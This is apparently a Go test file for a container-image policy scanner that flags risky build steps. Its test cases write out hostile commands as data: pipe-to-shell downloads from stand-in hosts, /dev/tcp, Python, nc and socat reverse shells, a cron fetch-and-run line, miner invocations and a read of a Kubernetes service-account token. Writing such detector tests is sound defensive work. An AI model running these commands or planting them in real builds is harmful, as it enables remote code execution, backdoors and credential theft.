package policy

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"
)

func trustedForTest(t testing.TB) Sources {
	s, err := ParseSources([]string{"deb.debian.org", "*.github.com", "10.0.0.0/8", "proxy.golang.org", "pypi.org", "registry.npmjs.org", "dl-cdn.alpinelinux.org"})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// brief renders findings as "kind host" for comparison.
func brief(fs []StepFinding) string {
	var out []string
	for _, f := range fs {
		out = append(out, strings.TrimSpace(string(f.Kind)+" "+f.Host))
	}
	return strings.Join(out, ", ")
}

func TestAnalyzeStep(t *testing.T) {
	tests := []struct {
		step string
		want string
	}{
		// Nothing to see.
		{"/bin/sh -c #(nop)  ADD file:0a1b2c in / ", ""},
		{"/bin/sh -c #(nop)  CMD [\"sh\"]", ""},
		{"COPY . /app # buildkit", ""},
		{"ENV URL=http://203.0.113.9/x", ""},
		{"LABEL org.opencontainers.image.source=https://evil.example/repo", ""},
		{"WORKDIR /app # buildkit", ""},
		{"RUN /bin/sh -c apt-get update && apt-get install -y curl wget # buildkit", ""},
		{"RUN /bin/sh -c curl --version # buildkit", ""},
		{"RUN /bin/sh -c go build -o /app ./cmd/app # buildkit", ""},
		{"RUN /bin/sh -c chmod +x /app/entrypoint.sh # buildkit", ""},
		{"RUN /bin/sh -c tar -xzf app.tar.gz && rm app.tar.gz # buildkit", ""},
		// Downloads from trusted sources are fine.
		{"RUN /bin/sh -c curl -fsSL https://deb.debian.org/debian/pool/x.deb -o /tmp/x.deb # buildkit", ""},
		{"RUN /bin/sh -c wget http://10.1.2.3/x.tgz # buildkit", ""},
		{"RUN /bin/sh -c git clone https://api.github.com/acme/repo # buildkit", ""},
		{"RUN /bin/sh -c go install golang.org/x/tools/cmd/goimports@latest # buildkit", "untrusted-download golang.org"},
		// Untrusted downloads.
		{"RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit",
			"raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"/bin/sh -c apt-get update && curl -fsSL http://1.2.3.4:8080/p.sh | sh", "raw-ip-download 1.2.3.4, pipe-to-shell 1.2.3.4"},
		{"RUN |2 A=1 B=2 /bin/sh -c curl -o /tmp/x https://evil.example/x # buildkit", "untrusted-download evil.example"},
		{"ADD https://evil.example/f.tar.gz /tmp/ # buildkit", "untrusted-download evil.example"},
		{"/bin/sh -c #(nop) ADD http://203.0.113.9/x.tgz /opt/", "raw-ip-download 203.0.113.9"},
		{"ADD --chmod=755 http://203.0.113.9/tool /usr/local/bin/tool # buildkit", "raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"ADD --chmod=644 https://github.com/acme/x/README /r # buildkit", "untrusted-download github.com"},
		{`RUN ["/bin/sh","-c","curl -s http://203.0.113.7/a | bash"]`, "raw-ip-download 203.0.113.7, pipe-to-shell 203.0.113.7"},
		{`RUN ["curl","-O","http://203.0.113.7/a"]`, "raw-ip-download 203.0.113.7"},
		{"RUN --mount=type=cache,target=/root/.cache /bin/sh -c pip install https://evil.example/pkg.whl # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c pip install --index-url http://198.51.100.4/simple flask # buildkit", "raw-ip-download 198.51.100.4"},
		{"RUN /bin/sh -c pip install git+https://git.evil.example/x.git # buildkit", "untrusted-download git.evil.example"},
		{"RUN /bin/sh -c python3 -m pip install -i https://pypi.org/simple requests # buildkit", ""},
		{"RUN /bin/sh -c npm install --registry=http://203.0.113.5:4873 left-pad # buildkit", "raw-ip-download 203.0.113.5"},
		{"RUN /bin/sh -c npm install https://evil.example/p.tgz # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c git clone git@git.evil.example:org/repo.git /src # buildkit", "untrusted-download git.evil.example"},
		{"RUN /bin/sh -c apk add --repository http://203.0.113.8/alpine/edge/main foo # buildkit", "raw-ip-download 203.0.113.8"},
		{"RUN /bin/sh -c go install evil.example/backdoor@v1.0.0 # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c curl http://3232235521/x -o /x # buildkit", "raw-ip-download 192.168.0.1"},
		{"RUN /bin/sh -c curl http://0x7f000001/x # buildkit", "raw-ip-download 127.0.0.1"},
		{"RUN /bin/sh -c curl http://user:pw@[2001:db8::1]:8080/x # buildkit", "raw-ip-download 2001:db8::1"},
		{"RUN /bin/sh -c wget 203.0.113.9/payload # buildkit", "raw-ip-download 203.0.113.9"},
		{"RUN /bin/sh -c curl http://EVIL.example./x # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c sudo -E curl -sLo /usr/local/bin/k http://203.0.113.9/k && sudo chmod 0755 /usr/local/bin/k # buildkit",
			"raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"RUN /bin/sh -c curl -sSL http://203.0.113.9/k > /usr/bin/k && chmod a+x /usr/bin/k # buildkit",
			"raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"RUN /bin/sh -c curl -sSLO https://evil.example/dl/tool && chmod u+x tool # buildkit",
			"untrusted-download evil.example, chmod-fetched evil.example"},
		{"RUN /bin/sh -c python3 -c \"import urllib.request; urllib.request.urlretrieve('http://203.0.113.2/x', '/x')\" # buildkit", "raw-ip-download 203.0.113.2"},
		{"RUN /bin/sh -c scp root@203.0.113.3:/srv/x /x # buildkit", "raw-ip-download 203.0.113.3"},
		{"RUN /bin/sh -c nc 203.0.113.4 4444 > /tmp/x # buildkit", "raw-ip-download 203.0.113.4"},
		// Running what was fetched or decoded.
		{"RUN /bin/sh -c curl -fsSL https://get.github.com/install.sh | sh # buildkit", "pipe-to-shell get.github.com"},
		{`RUN /bin/sh -c sh -c "$(curl -fsSL https://evil.example/i.sh)" # buildkit`, "untrusted-download evil.example, pipe-to-shell"},
		{"RUN /bin/sh -c bash <(wget -qO- http://203.0.113.9/i) # buildkit", "raw-ip-download 203.0.113.9, pipe-to-shell"},
		{"RUN /bin/sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | sh # buildkit", "base64-exec, raw-ip-download 203.0.113.9, pipe-to-shell 203.0.113.9"},
		{`RUN /bin/sh -c eval "$(echo ZWNobyBoaQ== | base64 --decode)" # buildkit`, "base64-exec"},
		{"RUN /bin/sh -c echo aGk= | base64 -d > /tmp/x # buildkit", ""},
		{"RUN /bin/sh -c curl -s https://evil.example/a \\\n  | python3 # buildkit", "untrusted-download evil.example, pipe-to-shell evil.example"},
		// Issue 19 regressions, one step at a time: the classic builder's
		// build args, variables, connections without a download tool, the
		// run command, and no chmod-fetched for a trusted source.
		{"|1 V=1 /bin/sh -c curl -fsSL http://203.0.113.9/x | sh", "raw-ip-download 203.0.113.9, pipe-to-shell 203.0.113.9"},
		{"|2 A=1 B=two words /bin/bash -o pipefail -c wget -qO- http://203.0.113.9/x | bash", "raw-ip-download 203.0.113.9, pipe-to-shell 203.0.113.9"},
		{`/bin/sh -c u=http://203.0.113.9/p; wget -qO /usr/bin/p "$u"`, "raw-ip-download 203.0.113.9"},
		{`RUN |1 SRC=https://evil.example/a /bin/sh -c curl -o /a "${SRC}" # buildkit`, "untrusted-download evil.example"},
		{"RUN /bin/sh -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # buildkit", "reverse-shell 198.51.100.7, raw-connection 198.51.100.7"},
		{"/bin/sh -c ./kthreadd -o 198.51.100.7:5555 -u w", "crypto-miner 198.51.100.7"},
		{"/bin/sh -c ./kthreadd -o 198.51.100.7:5555", ""},
		{`/bin/sh -c #(nop)  CMD ["xmrig" "-o" "198.51.100.7:3333"]`, "crypto-miner 198.51.100.7"},
		{`/bin/sh -c #(nop)  CMD ["xmrig" "-o" "127.0.0.1:3333"]`, "crypto-miner"},
		{`ENTRYPOINT ["/bin/sh" "-c" "nc -e /bin/sh 198.51.100.7 4444"]`, "reverse-shell 198.51.100.7, raw-connection 198.51.100.7"},
		{"RUN /bin/sh -c curl -fsSLo /usr/bin/t https://api.github.com/t && chmod +x /usr/bin/t # buildkit", ""},
		{"/bin/sh -c #(nop) ADD file:3b2f8c0d in /usr/local/bin/tool ", ""},
		// Malformed input never panics and still finds what it can.
		{`RUN /bin/sh -c curl "http://203.0.113.9/x`, "raw-ip-download 203.0.113.9"},
		{"RUN /bin/sh -c $(((((", ""},
		{"RUN /bin/sh -c '", ""},
	}
	trusted := trustedForTest(t)
	for _, tt := range tests {
		got := AnalyzeStep(tt.step, trusted)
		if brief(got) != tt.want {
			t.Errorf("AnalyzeStep(%q) = %q, want %q", tt.step, brief(got), tt.want)
		}
		for _, f := range got {
			if f.Detail == "" {
				t.Errorf("AnalyzeStep(%q): finding %+v has no detail", tt.step, f)
			}
		}
	}
}

func TestAnalyzeStepDetail(t *testing.T) {
	got := AnalyzeStep("RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p # buildkit", Sources{})
	want := []StepFinding{{Kind: StepRawIPDownload, Host: "203.0.113.9", URL: "http://203.0.113.9:8080/payload", Detail: "downloads from raw IP 203.0.113.9 with wget"}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("AnalyzeStep = %+v, want %+v", got, want)
	}
}

func TestAnalyzeStepBounded(t *testing.T) {
	// A huge, deeply nested step is analysed up to the cap, quickly.
	step := "RUN /bin/sh -c " + strings.Repeat("$(", 20000) + "curl http://203.0.113.9/x" + strings.Repeat(")", 20000)
	_ = AnalyzeStep(step, Sources{})
	step = "RUN /bin/sh -c " + strings.Repeat("curl http://203.0.113.9/x | sh; ", 10000)
	got := AnalyzeStep(step, Sources{})
	// Deduplicated: the download and the pipe, plus at most the URL the
	// 64 KiB cap cut in two.
	if len(got) < 2 || len(got) > 4 {
		t.Errorf("AnalyzeStep(repeated) = %d findings %q, want 2 to 4", len(got), brief(got))
	}
}

func TestSources(t *testing.T) {
	s, err := ParseSources([]string{"deb.debian.org", "*.github.com", "10.0.0.0/8", "192.0.2.7", "[::1]", "2001:db8::/32"})
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]bool{
		"deb.debian.org": true, "DEB.debian.org.": true, "debian.org": false,
		"api.github.com": true, "a.b.github.com": true, "github.com": false, "evilgithub.com": false,
		"10.2.3.4": true, "11.0.0.1": false, "192.0.2.7": true, "192.0.2.8": false,
		"::1": true, "[::1]": true, "2001:db8::5": true, "::ffff:10.0.0.1": true,
		"0x0a000001": true, "": false, "bad host": false,
	} {
		if got := s.Trusted(host); got != want {
			t.Errorf("Trusted(%q) = %v, want %v", host, got, want)
		}
	}
	for _, bad := range []string{"", "10.0.0.0/33", "registry.acme.internal:5000", "https://x.example", "*.*.example", "a b", "1.2.3.999", "[fe80::1%eth0]"} {
		if _, err := ParseSources([]string{"ok.example", bad}); err == nil || !strings.HasPrefix(err.Error(), "[1] ") {
			t.Errorf("ParseSources(%q) = %v, want an error naming entry [1]", bad, err)
		}
	}
	var zero Sources
	if zero.Trusted("deb.debian.org") {
		t.Error("zero Sources trusts a host")
	}
}

// step is one Dockerfile instruction of a test image.
type step struct{ instr, args string }

// histories renders a test image's steps as the classic builder and
// BuildKit record them: RUN with the build args in scope as "|N K=V",
// ENV and ARG with their values, CMD and ENTRYPOINT in Go's %q form, ADD
// of a URL as the classic builder's content sum (the URL is lost).
func histories(steps []step) (classic, buildkit []History) {
	args := map[string]string{}
	for _, s := range steps {
		var c, b string
		switch s.instr {
		case "RUN":
			prefix := ""
			if len(args) > 0 {
				var kv []string
				for k, v := range args {
					kv = append(kv, k+"="+v)
				}
				sort.Strings(kv)
				prefix = fmt.Sprintf("|%d %s ", len(kv), strings.Join(kv, " "))
			}
			c = prefix + "/bin/sh -c " + s.args
			b = "RUN " + prefix + "/bin/sh -c " + s.args + " # buildkit"
		case "ARG":
			k, v, _ := strings.Cut(s.args, "=")
			args[k] = v
			c, b = "/bin/sh -c #(nop)  ARG "+s.args, "ARG "+s.args
		case "ADD":
			f := strings.Fields(s.args)
			c = "/bin/sh -c #(nop) ADD file:3b2f8c in " + f[len(f)-1] + " "
			b = "ADD " + s.args + " # buildkit"
		case "CMD", "ENTRYPOINT":
			var w []string
			if err := json.Unmarshal([]byte(s.args), &w); err != nil {
				w = []string{"/bin/sh", "-c", s.args}
			}
			c = fmt.Sprintf("/bin/sh -c #(nop)  %s %q", s.instr, w)
			b = fmt.Sprintf("%s %q", s.instr, w)
		default:
			c, b = "/bin/sh -c #(nop)  "+s.instr+" "+s.args, s.instr+" "+s.args
		}
		classic = append(classic, History{CreatedBy: c})
		buildkit = append(buildkit, History{CreatedBy: b})
	}
	return classic, buildkit
}

// reports renders reports as "index kind host" lines, sorted.
func reports(rs []StepReport) string {
	var out []string
	for _, r := range rs {
		for _, f := range r.Findings {
			s := strings.TrimSpace(fmt.Sprintf("%d %s %s", r.Index, f.Kind, f.Host))
			if f.Verified != "" {
				s += " verified=" + f.Verified
			}
			if f.CrossStep {
				s += fmt.Sprintf(" fetchedIn=%d", f.FetchedIn)
			}
			out = appendUnique(out, s)
		}
	}
	sort.Strings(out)
	return strings.Join(out, "; ")
}

func base() []step {
	return []step{{"ADD", "rootfs.tar.xz /"}, {"CMD", `["bash"]`}}
}

func img(steps ...step) []step { return append(base(), steps...) }

// TestAnalyzeHistory covers the holes and false denials of issue 19, each
// with made-up steps of the shape, in both history forms.
func TestAnalyzeHistory(t *testing.T) {
	trusted, err := ParseSources([]string{"deb.debian.org", "10.0.0.0/8", "169.254.0.0/16",
		"github.com/tianon/gosu/releases/", "raw.githubusercontent.com/docker/docker/", "dl.example.org"})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name  string
		steps []step
		cfg   RunConfig
		want  string
		// classicWant differs from want where the classic builder loses
		// information (ADD of a URL); "" means the same.
		classicWant string
	}{
		// Hole 1: build args in scope.
		{name: "build arg in scope", steps: img(step{"ARG", "V=1"}, step{"RUN", "curl -fsSL http://203.0.113.9/x | sh"}),
			want: "3 pipe-to-shell 203.0.113.9; 3 raw-ip-download 203.0.113.9"},
		{name: "build arg value with spaces", steps: img(step{"ARG", "OPTS=-q -k"}, step{"RUN", "wget $OPTS -O /p http://203.0.113.9/p"}),
			want: "3 raw-ip-download 203.0.113.9"},
		{name: "URL in a build arg", steps: img(step{"ARG", "SRC=https://evil.example/a"}, step{"RUN", "curl -o /a ${SRC}"}),
			want: "3 untrusted-download evil.example"},
		// Hole 2: URLs in variables.
		{name: "step-assigned URL", steps: img(step{"RUN", `u=http://203.0.113.9/p; wget -qO /usr/bin/p "$u"`}),
			want: "2 raw-ip-download 203.0.113.9"},
		{name: "ENV URL", steps: img(step{"ENV", "PAYLOAD_URL=http://203.0.113.9/p"}, step{"RUN", `wget -O /p "${PAYLOAD_URL}"`}),
			want: "3 raw-ip-download 203.0.113.9"},
		{name: "legacy ENV form", steps: img(step{"ENV", "MIRROR http://203.0.113.9"}, step{"RUN", `curl -O $MIRROR/p`}),
			want: "3 raw-ip-download 203.0.113.9"},
		{name: "default value", steps: img(step{"RUN", `curl -O "${MIRROR:-http://203.0.113.9}/p"`}),
			want: "2 raw-ip-download 203.0.113.9"},
		{name: "assigned in one branch", steps: img(step{"RUN", `u=https://deb.debian.org/x; if [ -n "$X" ]; then u=http://203.0.113.9/x; fi; curl -o /y "$u"`}),
			want: "2 raw-ip-download 203.0.113.9"},
		{name: "assigned in a case arm", steps: img(step{"RUN", `case "$(uname -m)" in x86_64) u=https://deb.debian.org/a ;; *) u=http://203.0.113.9/b ;; esac; curl -O "$u"`}),
			want: "2 raw-ip-download 203.0.113.9"},
		{name: "loop variable", steps: img(step{"RUN", `for h in deb.debian.org 203.0.113.9; do curl -O http://$h/x; done`}),
			want: "2 raw-ip-download 203.0.113.9"},
		{name: "reassigned before use", steps: img(step{"RUN", `u=http://203.0.113.9/x; u=https://deb.debian.org/x; curl -O "$u"`}),
			want: ""},
		{name: "downloader in a variable", steps: img(step{"RUN", `dl=curl; $dl -o /x http://203.0.113.9/x`}),
			want: "2 raw-ip-download 203.0.113.9"},
		{name: "quoted program name", steps: img(step{"RUN", `c""u'r'l -o /x http://203.0.113.9/x && $'\x77get' http://203.0.113.8/y`}),
			want: "2 raw-ip-download 203.0.113.8; 2 raw-ip-download 203.0.113.9"},
		{name: "pattern removal", steps: img(step{"RUN", `h=xx203.0.113.9; curl -O http://${h#xx}/p`}),
			want: "2 raw-ip-download 203.0.113.9"},
		{name: "exported into sh -c", steps: img(step{"RUN", `export SRC=http://203.0.113.9/i.sh; sh -c 'curl -fsSL $SRC | sh'`}),
			want: "2 pipe-to-shell 203.0.113.9; 2 raw-ip-download 203.0.113.9"},
		{name: "URL only in config Env (history squashed)", steps: img(step{"RUN", `curl -o /x "$FEED"`}),
			cfg: RunConfig{Env: []string{"FEED=https://evil.example/x"}}, want: "2 untrusted-download evil.example"},
		{name: "base64 URL in a substitution", steps: img(step{"RUN", `curl -o /x "$(echo aHR0cDovLzIwMy4wLjExMy45L3g= | base64 -d)"`}),
			want: "2 raw-ip-download 203.0.113.9"},
		// Hole 3: the run command.
		{name: "CMD runs a miner", steps: img(step{"CMD", `["kswapd","-o","198.51.100.7:3333","-u","w"]`}),
			want: "2 crypto-miner 198.51.100.7"},
		{name: "ENTRYPOINT reverse shell", steps: img(step{"ENTRYPOINT", `["/bin/sh","-c","bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]`}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "shell-form CMD", steps: img(step{"CMD", `nohup ./svc --url=stratum+tcp://pool.example.net:3333 &`}),
			want: "2 crypto-miner pool.example.net"},
		{name: "ENV names a pool", steps: img(step{"ENV", "POOL=stratum+ssl://pool.example.net:443"}),
			want: "2 crypto-miner pool.example.net"},
		{name: "config run command only", steps: img(step{"RUN", "true"}),
			cfg:  RunConfig{Entrypoint: []string{"/opt/agent"}, Cmd: []string{"-o", "198.51.100.7:5555", "-k"}},
			want: "-1 crypto-miner 198.51.100.7"},
		{name: "config Env names a pool", steps: img(step{"RUN", "true"}),
			cfg: RunConfig{Env: []string{"POOL=stratum+tcp://pool.example.net:3333"}}, want: "-1 crypto-miner pool.example.net"},
		{name: "config repeats the history CMD", steps: img(step{"CMD", `["kswapd","-o","198.51.100.7:3333","-u","w"]`}),
			cfg: RunConfig{Cmd: []string{"kswapd", "-o", "198.51.100.7:3333", "-u", "w"}}, want: "2 crypto-miner 198.51.100.7"},
		{name: "-o host:port alone is not a pool", steps: img(step{"CMD", `["/srv/app","-o","198.51.100.7:8080"]`}),
			want: ""},
		{name: "local health check and port wait", steps: img(
			step{"RUN", `(./db &) && timeout 30 bash -c 'until </dev/tcp/127.0.0.1/5432; do sleep 1; done'`},
			step{"HEALTHCHECK", `CMD ["bash","-c","echo > /dev/tcp/localhost/8080"]`},
			step{"CMD", `["/srv/app","--url=0.0.0.0:8080","-p","x"]`}),
			want: ""},
		// Hole 4: connections without a download tool.
		{name: "dev tcp reverse shell", steps: img(step{"RUN", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "exec on dev tcp", steps: img(step{"RUN", "exec 3<>/dev/tcp/198.51.100.7/4444; sh <&3 >&3 2>&3"}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "python socket shell", steps: img(step{"RUN", `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",7678));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "perl socket", steps: img(step{"RUN", `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"198.51.100.7:9001");print $s "up"'`}),
			want: "2 raw-connection 198.51.100.7"},
		{name: "nc -e", steps: img(step{"RUN", "nc -e /bin/sh 198.51.100.7 4444"}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "fifo shell into nc", steps: img(step{"RUN", "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/p"}),
			want: "2 raw-ip-download 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "socat exec", steps: img(step{"RUN", "socat tcp:198.51.100.7:4444 exec:/bin/sh,pty,stderr"}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "renamed miner during the build", steps: img(step{"RUN", "chmod +x ./kworker && ./kworker -o 198.51.100.7:5555 -u wallet -k"}),
			want: "2 crypto-miner 198.51.100.7"},
		{name: "known miner name", steps: img(step{"RUN", "/opt/xmrig-6.20/xmrig --config=/etc/x.json"}),
			want: "2 crypto-miner"},
		{name: "reverse shell written to a file", steps: img(step{"RUN", `echo "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1" > /run.sh && chmod +x /run.sh`}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "group written to a file", steps: img(step{"RUN", `{ echo '#!/bin/sh'; echo 'nc 198.51.100.7 4444 -e /bin/sh'; } > /usr/local/bin/start`}),
			want: "2 raw-connection 198.51.100.7; 2 reverse-shell 198.51.100.7"},
		{name: "cron line written", steps: img(step{"RUN", `printf '*/5 * * * * root curl -s http://203.0.113.9/c | sh\n' > /etc/cron.d/job`}),
			want: "2 pipe-to-shell 203.0.113.9; 2 raw-ip-download 203.0.113.9"},
		{name: "connection to a trusted address", steps: img(step{"RUN", "cat < /dev/tcp/10.1.2.3/80"}),
			want: ""},
		{name: "metadata service, whatever is trusted", steps: img(step{"RUN", "curl -s http://169.254.169.254/latest/meta-data/"}),
			want: "2 cloud-probe 169.254.169.254"},
		{name: "service-account token", steps: img(step{"RUN", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"}),
			want: "2 cloud-probe"},
		// Hole 5: fetch in one step, chmod or run in another.
		{name: "fetch then chmod", steps: img(step{"RUN", "wget -O /opt/agent http://203.0.113.9/a"}, step{"RUN", "chmod +x /opt/agent"}),
			want: "2 raw-ip-download 203.0.113.9; 3 chmod-fetched 203.0.113.9 fetchedIn=2"},
		{name: "fetch in WORKDIR then run by CMD", steps: img(step{"WORKDIR", "/opt"}, step{"RUN", "curl -fsSLO https://evil.example/dl/agent"}, step{"CMD", `["./agent"]`}),
			want: "3 untrusted-download evil.example; 4 exec-fetched evil.example fetchedIn=3"},
		{name: "moved then run from PATH", steps: img(step{"RUN", "curl -o /tmp/x https://evil.example/x"}, step{"RUN", "mv /tmp/x /usr/local/bin/helper"}, step{"RUN", "helper --serve"}),
			want: "2 untrusted-download evil.example; 4 exec-fetched evil.example fetchedIn=2"},
		{name: "ADD of a URL then chmod", steps: img(step{"ADD", "http://203.0.113.9/tool /usr/local/bin/tool"}, step{"RUN", "chmod 755 /usr/local/bin/tool"}),
			want: "2 raw-ip-download 203.0.113.9; 3 chmod-fetched 203.0.113.9 fetchedIn=2", classicWant: "-"},
		{name: "fetched and run in one step", steps: img(step{"RUN", "curl -o /tmp/i.sh https://evil.example/i.sh && sh /tmp/i.sh"}),
			want: "2 exec-fetched evil.example; 2 untrusted-download evil.example"},
		{name: "cloned and built and run", steps: img(step{"RUN", "git clone https://evil.example/m.git /src && cd /src && make"}, step{"RUN", "/src/build/m --bg"}),
			want: "2 untrusted-download evil.example; 3 exec-fetched evil.example fetchedIn=2"},
		// Hole 6 and the false denials: trusted prefixes, trusted fetches.
		{name: "trusted prefix fetched, verified, chmod", steps: img(step{"ENV", "GOSU_VERSION=1.17"}, step{"RUN",
			`wget -O /usr/local/bin/gosu "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-amd64"; chmod +x /usr/local/bin/gosu; gosu nobody true`}),
			want: ""},
		{name: "other repository on the same host", steps: img(step{"RUN", `wget -O /usr/local/bin/x https://github.com/someone/miner/releases/download/1/x && chmod +x /usr/local/bin/x`}),
			want: "2 chmod-fetched github.com; 2 untrusted-download github.com"},
		{name: "trusted script made executable", steps: img(step{"ENV", "COMMIT=65cf"}, step{"RUN", `wget -O /usr/local/bin/dind "https://raw.githubusercontent.com/docker/docker/${COMMIT}/hack/dind"; chmod +x /usr/local/bin/dind`}),
			want: ""},
		{name: "trusted fetch chmod in a later step", steps: img(step{"RUN", "curl -o /usr/bin/t https://dl.example.org/t"}, step{"RUN", "chmod +x /usr/bin/t && t --version"}),
			want: ""},
		{name: "checksum-verified download", steps: img(step{"ENV", "SUM=0123"}, step{"RUN", `curl -fsSLo app.tgz https://evil.example/app.tgz && echo "$SUM *app.tgz" | sha256sum -c - && tar -xzf app.tgz`}),
			want: "3 untrusted-download evil.example verified=sha256sum"},
		{name: "signature-verified download", steps: img(step{"RUN", `wget -O t.tar.xz https://evil.example/t.tar.xz; wget -O t.tar.xz.asc https://evil.example/t.tar.xz.asc; gpg --batch --verify t.tar.xz.asc t.tar.xz`}),
			want: "2 untrusted-download evil.example verified=gpg --verify"},
		{name: "checksum file written first", steps: img(step{"RUN", `curl -fsSL https://evil.example/w.war -o /opt/w.war && echo "0123  /opt/w.war" > /tmp/sum && sha256sum -c --strict /tmp/sum`}),
			want: "2 untrusted-download evil.example verified=sha256sum"},
		{name: "checksum list grepped", steps: img(step{"ENV", "V=1.2"}, step{"RUN", `curl -fsSLO https://evil.example/v$V/t-$V.tgz && curl -fsSLO https://evil.example/v$V/SUMS && grep " t-$V.tgz\$" SUMS | sha256sum -c -`}),
			want: "3 untrusted-download evil.example verified=sha256sum"},
		{name: "verified, then run", steps: img(step{"RUN", `wget https://evil.example/init && echo "0123 *init" | sha256sum -c - && chmod +x init && ./init -y`}),
			want: "2 chmod-fetched evil.example verified=sha256sum; 2 exec-fetched evil.example verified=sha256sum; 2 untrusted-download evil.example verified=sha256sum"},
		{name: "unverified next to verified", steps: img(step{"RUN", `curl -o a https://evil.example/a && echo "0 *a" | sha256sum -c - && curl -o b http://203.0.113.9/b`}),
			want: "2 raw-ip-download 203.0.113.9; 2 untrusted-download evil.example verified=sha256sum"},
		// What build steps do every day stays quiet.
		{name: "everyday steps", steps: img(
			step{"ENV", "PATH=/usr/local/bin:$PATH"},
			step{"RUN", "apt-get -o Acquire::GzipIndexes=false update && apt-get install -y --no-install-recommends ca-certificates && rm -rf /var/lib/apt/lists/*"},
			step{"RUN", `echo 'deb http://deb.debian.org/debian bookworm main' > /etc/apt/sources.list.d/x.list`},
			step{"RUN", `gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys 0123ABCD; for key in $KEYS; do gpg --recv-keys "$key"; done`},
			step{"RUN", `LDFLAGS="${LDFLAGS:--Wl},--strip-all"; ./configure --build="$(dpkg-architecture --query DEB_BUILD_GNU_TYPE)" && make -j "$(nproc)" "LDFLAGS=${LDFLAGS:-}"`},
			step{"RUN", `find /usr/local -type f -perm '/0111' -exec sh -euxc 'strip --strip-all "$@" || :' -- '{}' +`},
			step{"RUN", `ssh -o StrictHostKeyChecking=no -p 22 builder@build.example.org true; mount -o bind /a /b || true`},
			step{"RUN", `{ echo 'Package: php*'; echo 'Pin: release *'; } > /etc/apt/preferences.d/no-php`},
			step{"WORKDIR", "/app"},
			step{"CMD", `["python3","-m","http.server","8000"]`},
		), want: ""},
	}
	for _, tt := range tests {
		classic, buildkit := histories(tt.steps)
		for form, h := range map[string][]History{"classic": classic, "buildkit": buildkit} {
			want := tt.want
			if form == "classic" && tt.classicWant != "" {
				want = strings.TrimPrefix(tt.classicWant, "-")
			}
			got := AnalyzeHistory(h, tt.cfg, trusted)
			if reports(got) != want {
				t.Errorf("%s, %s: AnalyzeHistory = %q, want %q\n%v", tt.name, form, reports(got), want, h)
			}
			for _, r := range got {
				for _, f := range r.Findings {
					if f.Detail == "" || strings.ContainsAny(f.Host, " \t\n") {
						t.Errorf("%s, %s: malformed finding %+v", tt.name, form, f)
					}
				}
			}
		}
	}
}

func TestAnalyzeHistoryCrossStepDetail(t *testing.T) {
	_, h := histories(img(step{"RUN", "wget -O /opt/agent http://203.0.113.9/a"}, step{"RUN", "chmod +x /opt/agent"}))
	got := AnalyzeHistory(h, RunConfig{}, Sources{})
	if len(got) != 2 {
		t.Fatalf("AnalyzeHistory = %+v, want reports for steps 2 and 3", got)
	}
	want := "makes /opt/agent, fetched from 203.0.113.9 in step 2, executable"
	if d := got[1].Findings[0].Detail; d != want {
		t.Errorf("cross-step detail = %q, want %q", d, want)
	}
}

func TestParseBuildArgs(t *testing.T) {
	tests := []struct {
		in       string
		want     map[string]string
		wantRest string
	}{
		{"|1 V=1 /bin/sh -c curl x", map[string]string{"V": "1"}, "/bin/sh -c curl x"},
		{"|2 A=a b B=c /bin/sh -c x", map[string]string{"A": "a b", "B": "c"}, "/bin/sh -c x"},
		{"|1 OPTS=-q -k /bin/bash -o pipefail -c x", map[string]string{"OPTS": "-q -k"}, "/bin/bash -o pipefail -c x"},
		{"|0 /bin/sh -c x", map[string]string{}, "/bin/sh -c x"},
		{"|3 A=1", map[string]string{"A": "1"}, ""},
		{"|x A=1 sh", nil, "A=1 sh"},
	}
	for _, tt := range tests {
		got, rest := parseBuildArgs(tt.in)
		if fmt.Sprint(got) != fmt.Sprint(tt.want) || rest != tt.wantRest {
			t.Errorf("parseBuildArgs(%q) = %v, %q, want %v, %q", tt.in, got, rest, tt.want, tt.wantRest)
		}
	}
}

func TestStripShell(t *testing.T) {
	for in, want := range map[string]string{
		"/bin/sh -c curl x":                  "curl x",
		"/bin/bash -o pipefail -c curl x":    "curl x",
		"/bin/ash -eo pipefail -c  a; b":     "a; b",
